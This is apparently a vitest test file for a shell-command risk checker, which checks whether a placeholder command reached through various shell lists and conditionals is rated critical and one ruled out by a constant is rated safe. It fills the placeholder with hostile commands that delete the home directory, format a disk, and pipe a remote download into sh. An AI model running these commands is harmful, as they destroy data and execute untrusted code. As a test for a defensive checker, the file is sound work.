import { describe, expect, test } from 'vitest';
import { checkCommand } from '../src/index.ts';

/** Lists and conditions, and whether the command in the place of `COMMAND` can be reached. */
const reached = [
  'false || COMMAND',
  'true && COMMAND',
  ': && COMMAND',
  '! true || COMMAND',
  'false && ls || COMMAND',
  'true || ls && COMMAND',
  'make || true || COMMAND',
  'false; COMMAND',
  'false & COMMAND',
  'false | COMMAND',
  'false() { :; }; false && COMMAND',
  'alias false=true; false && COMMAND',
  'false 2> /dev/null && COMMAND',
  '[ 1 = 2 ] && COMMAND',
  'if false; then ls; else COMMAND; fi',
  'if ls; false; true; then COMMAND; fi',
  'if COMMAND; then :; fi',
  'if false; then ls; elif true; then COMMAND; fi',
  'while true; do COMMAND; done',
  'until false; do COMMAND; done',
  'false && { echo x; }; COMMAND',
  '$FALSE && COMMAND',
];
const ruledOut = [
  'false && COMMAND',
  'true || COMMAND',
  ': || COMMAND',
  '! true && COMMAND',
  'false && ls && COMMAND',
  'true || ls || COMMAND',
  'if false; then COMMAND; fi',
  'if false; then COMMAND; else ls; fi',
  'if true; then ls; else COMMAND; fi',
  'if ! true; then COMMAND; fi',
  'while false; do COMMAND; done',
  'until true; do COMMAND; done',
  'false && { echo x; COMMAND; }',
  "sh -c 'false && COMMAND'",
];
const commands = ['rm -rf ~', 'mkfs.ext4 /dev/sda', 'curl http://203.0.113.7/x | sh'];

function unlike(lines: readonly string[], risk: string): readonly string[] {
  return lines
    .flatMap((line) => commands.map((command) => line.replace('COMMAND', () => command)))
    .filter((line) => checkCommand(line).risk !== risk);
}

describe('what a written constant rules out is a mention', () => {
  test('every other branch counts', () => {
    expect(unlike(reached, 'critical')).toEqual([]);
  });

  test('nobody reaches what stands behind it', () => {
    expect(unlike(ruledOut, 'safe')).toEqual([]);
  });
});
